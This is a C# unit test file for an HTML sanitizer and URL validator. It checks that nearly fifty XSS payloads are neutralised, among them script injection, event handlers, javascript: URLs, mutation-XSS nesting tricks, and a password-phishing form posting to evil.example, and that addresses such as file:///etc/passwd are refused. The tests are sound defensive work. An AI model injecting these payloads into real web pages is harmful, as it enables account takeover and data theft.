using System.Text.RegularExpressions;
using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Santral.Knowledge.Domain;

namespace Santral.Tests.Knowledge;

/// <summary>Hostile HTML never lives in an article.</summary>
public sealed partial class SafeHtmlTests
{
    private static readonly string[] Tags = ["p", "br", "strong", "em", "ul", "ol", "li", "h3", "h4", "blockquote", "code", "a"];

    public static TheoryData<string> Hostile() =>
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<p onclick=alert(1) style=\"position:fixed;top:0\">x</p>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVa\tScRiPt:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\" &#1; javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"//evil.example\">x</a>",
        "<a href=\"https://bank.example@evil.example/\">x</a>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
        "<svg><g/onload=alert(2)//<p>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text y=\"20\">x</text></a></svg>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><img src=x onerror=alert(1)></template>",
        "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<form action=https://evil.example><input name=password><button>OK</button></form>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"data:text/html,<script>alert(1)</script>\"></object><embed src=javascript:alert(1)>",
        "<style>@import '//evil.example';body{background:url(javascript:alert(1))}</style>",
        "<div style=\"width:expression(alert(1));behavior:url(x.htc)\">x</div>",
        "<a id=getElementById name=cookie href=https://a.example>x</a>",
        "<a href=https://a.example><a href=javascript:alert(1)>x</a></a>",
        "<table background=javascript:alert(1)><tr><td>x</table>",
        "<img srcset=\"x 1x, javascript:alert(1) 2x\"><video poster=javascript:alert(1)><source onerror=alert(1)></video>",
        "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
        "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
        "<img src=\"https://track.example/p.gif?u=1\" width=1 height=1>",
        "<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src onerror=alert(1)>",
        "</body></html><script>alert(1)</script>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<plaintext><script>alert(1)</script>",
        "<p>\" onmouseover=\"alert(1)</p>",
        "<option><style></option></select><img src=x onerror=alert(1)></style>",
    ];

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Nothing_hostile_lives(string html)
    {
        var safe = SafeHtml.Of(html);

        var tree = new HtmlParser().ParseDocument($"<body>{safe}").Body!;
        foreach (var element in tree.QuerySelectorAll("*"))
        {
            Tags.ShouldContain(element.LocalName);
            element.Attributes.ShouldAllBe(a => element.LocalName == "a" && a.Name == "href" && (a.Value.StartsWith("https://", StringComparison.Ordinal) || a.Value.StartsWith("http://", StringComparison.Ordinal)));
        }

        tree.Descendants<IComment>().ShouldBeEmpty();
        OpenTag().Matches(safe).Select(m => m.Groups[1].Value).ShouldBeSubsetOf(Tags);
        tree.InnerHtml.ShouldBe(safe.Replace("&quot;", "\"", StringComparison.Ordinal), "a browser reads it as something else than was written");
        SafeHtml.Of(safe).ShouldBe(safe);
    }

    [Fact]
    public void What_writers_need_stays()
        => SafeHtml.Of("<h2>Başlık</h2><div>Bir <b>iki</b> <i>üç</i><br>x</div><ul><li>a &lt; b &amp; c</li></ul><p><a href='https://å.example/x?a=1&b=2' target=_blank>yer</a></p>")
            .ShouldBe("<h3>Başlık</h3><p>Bir <strong>iki</strong> <em>üç</em><br>x</p><ul><li>a &lt; b &amp; c</li></ul><p><a href=\"https://å.example/x?a=1&amp;b=2\">yer</a></p>");

    [Theory]
    [InlineData("<p><div>x</div></p>")]
    [InlineData("<ul><li><button><li>x</button></ul>")]
    [InlineData("<p><button><p>x</button></p>")]
    [InlineData("<h1><h2>x</h2></h1>")]
    [InlineData("<b><p>x</b>y</p><i><b>z</i></b>")]
    [InlineData("<blockquote><div><ul><div>x</div></ul></div></blockquote>")]
    public void Saving_again_changes_nothing(string html)
    {
        var once = SafeHtml.Of(html);

        SafeHtml.Of(once).ShouldBe(once);
        SafeHtml.Plain(once).ShouldContain("x");
    }

    [Fact]
    public void Endless_and_tangled_text_is_refused_before_it_is_read()
    {
        Should.Throw<Refusal>(() => SafeHtml.Of(new string('x', SafeHtml.Longest + 1))).Code.ShouldBe("knowledge.text_too_long");
        Should.Throw<Refusal>(() => SafeHtml.Of(string.Concat(Enumerable.Repeat("<b>", 10_000)))).Code.ShouldBe("knowledge.text_too_long");
    }

    [Theory]
    [InlineData("<div>")]
    [InlineData("<blockquote>")]
    [InlineData("<b>")]
    public void Words_nested_deeper_than_any_text_keep_their_place_and_lose_their_form(string tag)
    {
        var once = SafeHtml.Of($"<p>önce</p>{string.Concat(Enumerable.Repeat(tag, 200))}derin<script>alert(1)</script>");

        SafeHtml.Plain(once).Split([' ', '\n'], StringSplitOptions.RemoveEmptyEntries).ShouldBe(["önce", "derin"]);
        SafeHtml.Of(once).ShouldBe(once);
    }

    [Fact]
    public void Plain_words_keep_lines_apart()
        => SafeHtml.Plain("<p>Bir <strong>iki</strong></p><ul><li>üç</li><li>dört &amp; beş</li></ul>").ShouldBe("Bir iki\nüç\ndört & beş");

    [Theory]
    [InlineData("https://www.miljoservice.example/guide", "www.miljoservice.example")]
    [InlineData("http://a.example:8080/x", "a.example")]
    [InlineData("https://аpple.example/", "xn--pple-43d.example")]
    public void A_web_address_shows_its_host_in_ascii(string address, string host) => WebAddress.HostOf(WebAddress.ReadOrRefuse(address)).ShouldBe(host);

    [Theory]
    [InlineData("javascript:alert(1)")]
    [InlineData("JAVASCRIPT:alert(1)")]
    [InlineData("data:text/html,x")]
    [InlineData("ftp://a.example")]
    [InlineData("file:///etc/passwd")]
    [InlineData("//a.example")]
    [InlineData("/relative")]
    [InlineData("https://user:pass@a.example")]
    [InlineData("https://a.example/\nx")]
    public void Any_other_address_is_refused(string address) => WebAddress.Read(address).ShouldBeNull();

    [GeneratedRegex("<([a-z0-9]+)")]
    private static partial Regex OpenTag();
}
